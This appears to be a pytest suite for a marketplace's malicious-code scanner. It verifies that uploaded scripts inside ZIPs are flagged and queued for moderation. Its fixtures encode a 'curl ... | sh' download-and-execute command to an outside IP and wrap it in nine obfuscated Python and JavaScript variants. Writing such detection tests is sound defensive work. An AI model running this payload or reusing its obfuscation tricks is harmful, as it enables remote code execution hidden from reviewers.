"""Code review end to end with the real analysers (Semgrep, Bandit, GuardDog's
YARA rules, the GDScript rules) and the shipped verdict model: a malicious
script inside a ZIP holds the asset and queues it, obfuscated variants of a
rule hit are still caught, ``POST /api/v1/code-review`` answers synchronously
and ``agora review`` exits by verdict."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from agora.catalog import Upload
from agora.codereview.base import ScriptFile
from agora.codereview.review import SHIPPED_MODEL, CodeReviewer
from agora.config import Settings
from agora.runtime import Platform
from agora.storage.tables import ProcessingResultRow

pytest.importorskip("bandit")
pytest.importorskip("yara")
if not SHIPPED_MODEL.exists():
    pytest.skip("no shipped verdict model", allow_module_level=True)

CORPUS = Path(__file__).resolve().parents[1] / "data" / "code_review" / "corpus"
STEP = "agora.codereview.step:CodeReviewStep"
# Heavy steps this test does not need (their models load slowly).
OFF = ["moderation", "tagging", "index", "completeness"]


@pytest.fixture(scope="module")
def reviewer() -> CodeReviewer:
    return CodeReviewer.default()


def _zip(members: dict[str, str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, text in members.items():
            z.writestr(name, text)
    return buf.getvalue()


# A rule hit (exec of a base64-decoded blob) and variants that hide it.
PY_PAYLOAD = "aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vOTEuMjE1LjQwLjEvaSB8IHNoIik="
OBFUSCATED = {
    "plain.py": f'import base64\nexec(base64.b64decode("{PY_PAYLOAD}"))\n',
    "alias.py": f'import base64 as b\nrun = exec\nrun(b.b64decode("{PY_PAYLOAD}").decode())\n',
    "getattr.py": (
        "import base64\n"
        f"blob = '{PY_PAYLOAD}'\n"
        "f = getattr(__builtins__, 'ex' + 'ec')\n"
        "f(getattr(base64, 'b64' + 'decode')(blob))\n"
    ),
    "reversed.py": (
        "import base64\n"
        f"s = '{PY_PAYLOAD[::-1]}'\n"
        "code = base64.b64decode(s[::-1])\n"
        "eval(compile(code, '<x>', 'exec'))\n"
    ),
    "hex.py": (
        "import os\n"
        "cmd = bytes.fromhex('6375726c202d7320687474703a2f2f39312e3231352e34302e312f69'\n"
        "                     '207c207368')\n"
        "os.system(cmd.decode())\n"
    ),
    "plain.js": "eval(Buffer.from('" + PY_PAYLOAD + "', 'base64').toString());\n",
    "window.js": "var k = 'ev' + 'al';\nwindow[k](atob('" + PY_PAYLOAD + "'));\n",
    "function.js": "new Function(atob('" + PY_PAYLOAD + "'))();\n",
    "charcode.js": (
        "var c = String.fromCharCode(114,101,113,117,105,114,101,40,39,99,104,105,108,100,"
        "95,112,114,111,99,101,115,115,39,41,46,101,120,101,99,40,39,99,117,114,108,32,104,"
        "116,116,112,58,47,47,57,49,46,50,49,53,46,52,48,46,49,47,105,124,115,104,39,41);\n"
        "eval(c);\n"
    ),
}


@pytest.mark.parametrize("name", sorted(OBFUSCATED))
def test_obfuscated_variants_of_a_rule_hit_are_still_caught(
    reviewer: CodeReviewer, name: str
) -> None:
    language = "python" if name.endswith(".py") else "javascript"
    review = reviewer.review_files([ScriptFile(name, language, OBFUSCATED[name])])
    (f,) = review.files
    assert f.verdict == "malicious", (f.probability, f.drivers, [x.rule_id for x in f.findings])
    assert f.drivers  # the findings or features that made the verdict


@pytest.fixture
def platform(tmp_path: Path) -> Iterator[Platform]:
    settings = Settings.load(
        data_dir=tmp_path / "agora",
        pipeline={"extra_steps": [STEP], "disabled_steps": OFF},
    )
    p = Platform.build(settings)
    p.people.upsert_seller("s1", {"name": "Plugin Forge", "trust_score": 0.9}, "t")
    yield p
    p.close()


def _upload(platform: Platform, name: str, data: bytes) -> tuple[str, str]:
    meta = {"title": "Level tools plugin", "seller_id": "s1",
            "description": "Editor tools for level design.", "tags": ["tools"]}  # fmt: skip
    created = platform.assets.create(meta, [Upload(name, data)], [], "t")
    return created.asset_id, created.job_id


def _results(platform: Platform, asset_id: str) -> dict[str, ProcessingResultRow]:
    with platform.db.session() as s:
        rows = s.query(ProcessingResultRow).filter_by(asset_id=asset_id).all()
        return {r.step: r for r in rows}


def test_a_malicious_script_inside_a_zip_holds_the_asset(platform: Platform) -> None:
    plugin = _zip(
        {
            "addons/level_tools/plugin.gd": (CORPUS / "gdscript/ok_settings.gd").read_text(),
            "addons/level_tools/update.py": (CORPUS / "python/mal_download_exec.py").read_text(),
            "README.txt": "Level tools.",
        }
    )
    clean = _zip({"scripts/save.gd": (CORPUS / "gdscript/ok_save_system.gd").read_text()})
    bad_id, bad_job = _upload(platform, "level_tools.zip", plugin)
    good_id, good_job = _upload(platform, "save_system.zip", clean)
    runner = platform.pipeline_runner()
    assert "codereview" in [s.name for s in runner.steps]
    runner.run(bad_id, bad_job)
    runner.run(good_id, good_job)

    bad = platform.assets.get(bad_id)
    assert bad["status"] == "flagged"
    result = _results(platform, bad_id)["codereview"]
    assert result.hold and "update.py" in result.output["reason"]
    files = {f["file"]: f for f in result.output["files"]}
    update = files["level_tools.zip!addons/level_tools/update.py"]
    assert update["verdict"] == "malicious"
    assert {"line_start", "line_end", "fix", "rule_id", "severity"} <= set(update["findings"][0])
    assert files["level_tools.zip!addons/level_tools/plugin.gd"]["verdict"] == "clean"
    # The flagged asset is in the moderators' queue with the code-review reasons.
    platform.moderation_queue.sync()
    items = platform.moderation_queue.items(_pending())["items"]
    assert [i["asset_id"] for i in items] == [bad_id]
    assert any("update.py" in r["detail"] for r in items[0]["reasons"])

    assert platform.assets.get(good_id)["status"] == "active"
    assert _results(platform, good_id)["codereview"].output["verdict"] == "clean"


def _pending():  # type: ignore[no-untyped-def]
    from agora.moderation.queue import QueueFilter

    return QueueFilter(state="pending")


def test_code_review_endpoint_answers_synchronously(platform: Platform) -> None:
    from agora.api.app import create_app

    headers = {"Authorization": f"Bearer {platform.keys.create(['read']).token}"}
    app = create_app(platform, start_background=False)
    with TestClient(app) as client:
        data = _zip({"a/mal.js": (CORPUS / "javascript/mal_curl_sh.js").read_text()})
        r = client.post("/api/v1/code-review", files={"file": ("mod.zip", data)}, headers=headers)
        assert r.status_code == 200, r.text
        body = r.json()
        assert body["verdict"] == "malicious" and body["files"][0]["findings"]
        r = client.post(
            "/api/v1/code-review", files={"file": ("notes.txt", b"hello")}, headers=headers
        )
        assert r.status_code == 422
        assert r.headers["content-type"].startswith("application/problem+json")


def test_agora_review_exits_by_verdict(tmp_path: Path) -> None:
    from agora.cli.main import app

    runner = CliRunner()
    bad = runner.invoke(
        app, ["--data-dir", str(tmp_path), "review", str(CORPUS / "lua/mal_os_execute.lua")]
    )
    assert bad.exit_code == 2, bad.output
    assert "lua-os-execute" in bad.output
    good = runner.invoke(
        app, ["--data-dir", str(tmp_path), "review", str(CORPUS / "lua/ok_love_save.lua")]
    )
    assert good.exit_code == 0, good.output
